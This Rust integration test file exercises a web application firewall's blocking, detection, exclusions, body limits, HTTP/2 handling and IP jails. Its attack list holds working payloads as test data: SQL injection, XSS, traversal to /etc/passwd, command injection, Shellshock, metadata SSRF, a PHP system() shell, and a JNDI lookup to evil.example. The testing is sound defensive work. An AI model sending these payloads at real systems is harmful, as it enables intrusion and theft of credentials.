//! The `waf` stage with the real binary: every attack class in every place refused in
//! block mode (the origin sees nothing of it) and logged only in detect mode;
//! exclusions by rule, target, route and consumer; bodies too large or encoded;
//! jails counting WAF refusals; an HTTP/2 body without a length; `check` placing a
//! bad rule or target; and the project's own corpus (`tests/data/waf-corpus.jsonl`)
//! sent as-is.

use std::time::Duration;

use crate::support::tollgate::cli;
use crate::support::{
    assert_problem, client, eventually, metric, raw_request, send, Origin, Tollgate,
};

const ACME_KEY: &str = "acme-key-0123456789abcdef0123456789";
const EDITOR_KEY: &str = "editor-key-0123456789abcdef01234567";

/// A WAF named `edge` with `waf_extra`, routes `api` and `cms` (api keys, optional)
/// proxying to `origin`.
async fn start(origin: &Origin, waf_extra: &str) -> Tollgate {
    start_with(origin, waf_extra, "").await
}

/// As [`start`], with `sections` (listeners, say) added to the configuration.
async fn start_with(origin: &Origin, waf_extra: &str, sections: &str) -> Tollgate {
    let body = format!(
        r#"
{sections}

[upstreams.app]
targets = [{target}]

[auth.keys]
kind = "api_key"
consumers = [
  {{ id = "acme", key_sha256 = "{acme}" }},
  {{ id = "editor", key_sha256 = "{editor}" }},
]

[waf.edge]
{waf_extra}

[[routes]]
name = "cms"
path_prefix = "/cms"
upstream = "app"
auth = ["keys"]
waf = "edge"

[[routes]]
name = "api"
path_prefix = "/"
upstream = "app"
waf = "edge"
"#,
        target = origin.target(),
        acme = tollgate::auth::hash_key(ACME_KEY),
        editor = tollgate::auth::hash_key(EDITOR_KEY),
    );
    Tollgate::start(&body).await
}

/// One request written as-is: method, target, extra header lines, content type, body.
fn request(method: &str, target: &str, headers: &str, content_type: &str, body: &str) -> Vec<u8> {
    let mut head = format!(
        "{method} {target} HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n{headers}"
    );
    if !body.is_empty() {
        head.push_str(&format!(
            "Content-Type: {content_type}\r\nContent-Length: {}\r\n",
            body.len()
        ));
    }
    head.push_str("\r\n");
    let mut bytes = head.into_bytes();
    bytes.extend_from_slice(body.as_bytes());
    bytes
}

fn status(response: &str) -> u16 {
    response
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

/// An attack of each class in each place it is sent from.
fn attacks() -> Vec<(&'static str, Vec<u8>)> {
    let json = "application/json";
    let form = "application/x-www-form-urlencoded";
    let multipart = "multipart/form-data; boundary=b0undary";
    let part = |value: &str| {
        format!("--b0undary\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{value}\r\n--b0undary--\r\n")
    };
    vec![
        (
            "sqli query",
            request(
                "GET",
                "/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
                "",
                "",
                "",
            ),
        ),
        (
            "sqli json",
            request(
                "POST",
                "/login",
                "",
                json,
                r#"{"user": "admin' OR '1'='1' -- ", "pw": "x"}"#,
            ),
        ),
        (
            "sqli cookie",
            request(
                "GET",
                "/cart",
                "Cookie: track=1%20AND%20SLEEP(5)\r\n",
                "",
                "",
            ),
        ),
        (
            "xss query",
            request(
                "GET",
                "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                "",
                "",
                "",
            ),
        ),
        (
            "xss form",
            request(
                "POST",
                "/comments",
                "",
                form,
                "text=%3Csvg%20onload%3Dalert(1)%3E",
            ),
        ),
        (
            "xss header",
            request("GET", "/", "Referer: javascript:alert(1)//\r\n", "", ""),
        ),
        (
            "lfi query",
            request(
                "GET",
                "/files?name=..%252f..%252f..%252fetc%252fpasswd",
                "",
                "",
                "",
            ),
        ),
        (
            "lfi multipart",
            request(
                "POST",
                "/upload",
                "",
                multipart,
                &part("../../../../proc/self/environ"),
            ),
        ),
        (
            "rce json",
            request(
                "POST",
                "/ping",
                "",
                json,
                r#"{"host": "127.0.0.1; cat /etc/passwd"}"#,
            ),
        ),
        (
            "rce header",
            request(
                "GET",
                "/",
                "User-Agent: () { :; }; /bin/bash -c 'id'\r\n",
                "",
                "",
            ),
        ),
        (
            "ssrf json",
            request(
                "POST",
                "/fetch",
                "",
                json,
                r#"{"url": "http://169.254.169.254/latest/meta-data/"}"#,
            ),
        ),
        (
            "php form",
            request(
                "POST",
                "/render",
                "",
                form,
                "tpl=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%20%3F%3E",
            ),
        ),
        (
            "java header",
            request(
                "GET",
                "/",
                "X-Api-Version: ${jndi:ldap://evil.example/a}\r\n",
                "",
                "",
            ),
        ),
        (
            "node json",
            request(
                "POST",
                "/prefs",
                "",
                json,
                r#"{"__proto__": {"isAdmin": true}}"#,
            ),
        ),
        (
            "protocol query",
            request(
                "GET",
                "/redirect?to=%0d%0aSet-Cookie:%20session=evil",
                "",
                "",
                "",
            ),
        ),
        (
            "scanner header",
            request(
                "GET",
                "/",
                "User-Agent: sqlmap/1.8#stable (https://sqlmap.org)\r\n",
                "",
                "",
            ),
        ),
        ("scanner path", request("GET", "/.git/config", "", "", "")),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_are_refused_in_every_place_and_the_origin_sees_nothing() {
    let origin = Origin::start("o").await;
    let tg = start(&origin, "").await;
    for (what, bytes) in attacks() {
        let response = tokio::task::block_in_place(|| raw_request(tg.port, &bytes));
        assert_eq!(status(&response), 403, "{what}: {response}");
        assert!(response.contains("\"incident\""), "{what}: {response}");
    }
    assert_eq!(origin.heads(), 0, "the origin saw a refused request");
    let clean = send(client().get(tg.url("/items?q=O%27Brien%27s+caf%C3%A9&page=2"))).await;
    assert_eq!(clean.status, 200, "{}", clean.body);
    let json = send(
        client()
            .post(tg.url("/comments"))
            .header("content-type", "application/json")
            .body(r#"{"text": "I'd select the union option, then drop by; 1 or 2 of us"}"#),
    )
    .await;
    assert_eq!(json.status, 200, "{}", json.body);

    let events = tg.security_log(attacks().len()).await;
    let waf: Vec<_> = events.iter().filter(|e| e["event"] == "waf").collect();
    assert_eq!(waf.len(), attacks().len());
    let first = waf[0];
    assert_eq!(first["action"], "block");
    assert_eq!(first["route"], "api");
    assert!(first["score"].as_u64() >= Some(5), "{first}");
    let rule = &first["rules"][0];
    assert!(
        rule["id"].as_u64().is_some() && rule["target"].is_string(),
        "{first}"
    );
    assert!(
        rule["excerpt"].as_str().is_some_and(|e| e.len() <= 4 * 64),
        "{first}"
    );
    let metrics = tg.metrics().await;
    assert!(
        metric(
            &metrics,
            "tollgate_waf_matches_total{action=\"block\",route=\"api\",rule=\"942100\"}"
        ) >= 1,
        "{metrics}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn detect_mode_logs_and_counts_but_forwards() {
    let origin = Origin::start("o").await;
    let tg = start(&origin, "mode = \"detect\"").await;
    let (_, bytes) = attacks().remove(0);
    let response = tokio::task::block_in_place(|| raw_request(tg.port, &bytes));
    assert_eq!(status(&response), 200, "{response}");
    assert_eq!(origin.heads(), 1);
    let events = tg.security_log(1).await;
    assert_eq!(events[0]["event"], "waf");
    assert_eq!(events[0]["action"], "detect");
    let metrics = tg.metrics().await;
    assert!(
        metric(
            &metrics,
            "tollgate_waf_matches_total{action=\"detect\",route=\"api\",rule=\"942100\"}"
        ) >= 1,
        "{metrics}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn exclusions_by_rule_target_route_and_consumer() {
    let origin = Origin::start("o").await;
    let extra = r#"exclude = [
  { rule = 941100, target = "body:/html" },
  { rule = "941*", target = "body:/html" },
  { rule = "942*", route = "cms", consumer = "editor" },
]"#;
    let tg = start(&origin, extra).await;
    let post = |path: &str, key: Option<&str>, body: &str| {
        let mut req = client()
            .post(tg.url(path))
            .header("content-type", "application/json")
            .body(body.to_owned());
        if let Some(key) = key {
            req = req.header("x-api-key", key);
        }
        send(req)
    };
    let html = r#"{"html": "<img src=x onerror=alert(1)>"}"#;
    assert_eq!(
        post("/posts", None, html).await.status,
        200,
        "excluded for body:/html"
    );
    assert_problem(
        &post(
            "/posts",
            None,
            r#"{"text": "<img src=x onerror=alert(1)>"}"#,
        )
        .await,
        403,
    );
    let sql = r#"{"query": "SELECT name FROM users WHERE id = '1' OR '1'='1'"}"#;
    assert_eq!(
        post("/cms/pages", Some(EDITOR_KEY), sql).await.status,
        200,
        "the editor on cms"
    );
    assert_problem(&post("/cms/pages", Some(ACME_KEY), sql).await, 403);
    assert_problem(&post("/pages", None, sql).await, 403);
}

#[tokio::test(flavor = "multi_thread")]
async fn bodies_beyond_max_inspect_or_encoded_follow_on_oversize() {
    let origin = Origin::start("o").await;
    let tg = start(&origin, "max_inspect = \"1KiB\"").await;
    let big = format!(r#"{{"text": "{}"}}"#, "a".repeat(2000));
    let post = |body: String, encoding: Option<&str>| {
        let mut req = client()
            .post(tg.url("/notes"))
            .header("content-type", "application/json")
            .body(body);
        if let Some(e) = encoding {
            req = req.header("content-encoding", e);
        }
        send(req)
    };
    assert_problem(&post(big.clone(), None).await, 413);
    assert_problem(&post("{}".into(), Some("gzip")).await, 415);
    assert_eq!(origin.heads(), 0);

    let passing = Origin::start("p").await;
    let tg = start(&passing, "max_inspect = \"1KiB\"\non_oversize = \"pass\"").await;
    let reply = send(
        client()
            .post(tg.url("/notes"))
            .header("content-type", "application/json")
            .body(big),
    )
    .await;
    assert_eq!(reply.status, 200);
    let chunked = crate::support::chunked_request(
        "/notes",
        "Content-Type: application/json\r\n",
        &[b"{\"t\": \"", &[b'a'; 1500], b"\"}"],
    );
    let response = tokio::task::block_in_place(|| raw_request(tg.port, &chunked));
    assert_eq!(status(&response), 200, "{response}");
}

/// HTTP/2 needs no length header for a body: one streamed in DATA frames is held and
/// inspected all the same.
#[tokio::test(flavor = "multi_thread")]
async fn an_http2_body_without_a_length_is_inspected() {
    let origin = Origin::start("o").await;
    let h2_port = crate::support::free_port();
    let listener = format!("[listeners.h2c]\naddr = \"127.0.0.1:{h2_port}\"\nh2c = true\n");
    let _tg = start_with(&origin, "", &listener).await;
    let h2 = reqwest::Client::builder()
        .no_proxy()
        .http2_prior_knowledge()
        .build()
        .expect("h2c client");
    let streamed = |text: &'static str| {
        let parts = text
            .as_bytes()
            .chunks(8)
            .map(|c| Ok::<_, std::io::Error>(c.to_vec()))
            .collect::<Vec<_>>();
        reqwest::Body::wrap_stream(futures::stream::iter(parts))
    };
    let url = format!("http://127.0.0.1:{h2_port}/notes");
    let post = |body: reqwest::Body| {
        send(
            h2.post(&url)
                .header("content-type", "application/json")
                .body(body),
        )
    };
    let attack = post(streamed(
        r#"{"q": "1' UNION SELECT password FROM users--"}"#,
    ))
    .await;
    assert_problem(&attack, 403);
    assert_eq!(origin.heads(), 0, "the origin saw a refused HTTP/2 request");
    let clean = post(streamed(r#"{"note": "leave it at the door"}"#)).await;
    assert_eq!(clean.status, 200, "{}", clean.body);
    let bodies: Vec<Vec<u8>> = origin.seen().iter().map(|s| s.body.to_vec()).collect();
    assert_eq!(bodies, [br#"{"note": "leave it at the door"}"#.to_vec()]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_jail_bans_a_client_the_waf_keeps_refusing() {
    let origin = Origin::start("o").await;
    let body = format!(
        r#"
[upstreams.app]
targets = [{}]

[jails.attackers]
key = "client_ip"
max_strikes = 2
window = "1m"
ban = "1m"

[waf.edge]

[[routes]]
name = "api"
path_prefix = "/"
upstream = "app"
waf = "edge"
jails = ["attackers"]
"#,
        origin.target()
    );
    let tg = Tollgate::start(&body).await;
    for _ in 0..2 {
        assert_problem(
            &send(client().get(tg.url("/?q=%3Cscript%3Ealert(1)%3C/script%3E"))).await,
            403,
        );
    }
    let banned = eventually(Duration::from_secs(5), || async {
        send(client().get(tg.url("/clean"))).await.status == 403
    })
    .await;
    assert!(
        banned,
        "the client is not banned: {}",
        tg.security_log_text()
    );
    assert_eq!(origin.heads(), 0);
}

#[test]
fn check_places_an_unknown_rule_and_a_bad_target() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("t.toml");
    std::fs::write(
        &file,
        "[listeners.main]\naddr = \"127.0.0.1:1\"\n\n[waf.edge]\nparanoia = 5\nexclude = [\n  { rule = 999999 },\n  { rule = 942100, target = \"args:q\" },\n  { rule = \"941*\", route = \"nowhere\" },\n]\n\n[[routes]]\nname = \"r\"\nrespond = { status = 200 }\nwaf = \"missing\"\n",
    )
    .expect("write");
    let out = cli(&["check", "-c", file.to_str().expect("path")], None);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    for expected in [
        "waf.edge.paranoia",
        "waf.edge.exclude[0].rule",
        "no rule 999999",
        "waf.edge.exclude[1].target",
        "waf.edge.exclude[2].route",
        "routes[0].waf",
    ] {
        assert!(err.contains(expected), "{expected} missing from:\n{err}");
    }
}

/// One corpus record (`tests/data/waf-corpus.md`) as the bytes sent for it.
fn record_request(record: &serde_json::Value) -> Vec<u8> {
    let method = record["method"].as_str().unwrap_or("GET");
    let target = record["path"].as_str().unwrap_or("/");
    let mut headers = String::new();
    for (name, value) in record["headers"].as_object().into_iter().flatten() {
        headers.push_str(&format!("{name}: {}\r\n", value.as_str().unwrap_or("")));
    }
    let body = record["body"].as_str().unwrap_or("");
    let content_type = record["content_type"]
        .as_str()
        .unwrap_or("application/octet-stream");
    request(method, target, &headers, content_type, body)
}

/// The project's corpus through the real binary at paranoia 1: every ordinary request
/// reaches the origin once its legitimate SQL, code and markup fields are excluded
/// (the false-positive workflow the README gives), and at least 90% of the attacks
/// are refused, none of them seen by the origin.
#[tokio::test(flavor = "multi_thread")]
async fn the_projects_corpus_ordinary_requests_pass_and_attacks_are_refused() {
    let origin = Origin::start("o").await;
    let body = format!(
        r#"
[upstreams.app]
targets = [{}]

[waf.edge]
exclude = [
  {{ rule = "942*", target = "body:/query" }},
  {{ rule = "942*", target = "body:/native/query" }},
  {{ rule = "942*", target = "body:/files/*" }},
  {{ rule = "941*", target = "body:/title" }},
]

[[routes]]
name = "api"
path_prefix = "/"
upstream = "app"
max_body = "1MiB"
waf = "edge"
"#,
        origin.target()
    );
    // GitLab names files by an encoded path (`src%2Fmain.rs`): such an API keeps `%2F`.
    let tg = Tollgate::start_with_server(&body, "escaped_slashes = \"keep\"").await;
    let corpus = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/waf-corpus.jsonl"
    ))
    .expect("corpus");
    let (mut attacks, mut refused, mut refused_ordinary) = (0, 0, Vec::new());
    for line in corpus.lines().filter(|l| !l.trim().is_empty()) {
        let record: serde_json::Value = serde_json::from_str(line).expect("record");
        let bytes = record_request(&record);
        let seen_before = origin.heads();
        let response = tokio::task::block_in_place(|| raw_request(tg.port, &bytes));
        let code = status(&response);
        let reached = origin.heads() > seen_before;
        if record["attack"].as_bool() == Some(true) {
            attacks += 1;
            if (400..500).contains(&code) {
                refused += 1;
                assert!(
                    !reached,
                    "{}: refused with {code}, yet the origin saw it",
                    record["id"]
                );
            }
        } else if code != 200 || !reached {
            refused_ordinary.push(format!("{} {code}", record["id"]));
        }
    }
    assert!(
        refused_ordinary.is_empty(),
        "ordinary requests refused: {refused_ordinary:?}"
    );
    assert!(attacks >= 150, "{attacks} attacks in the corpus");
    assert!(
        refused * 10 >= attacks * 9,
        "{refused} of {attacks} attacks refused"
    );
}
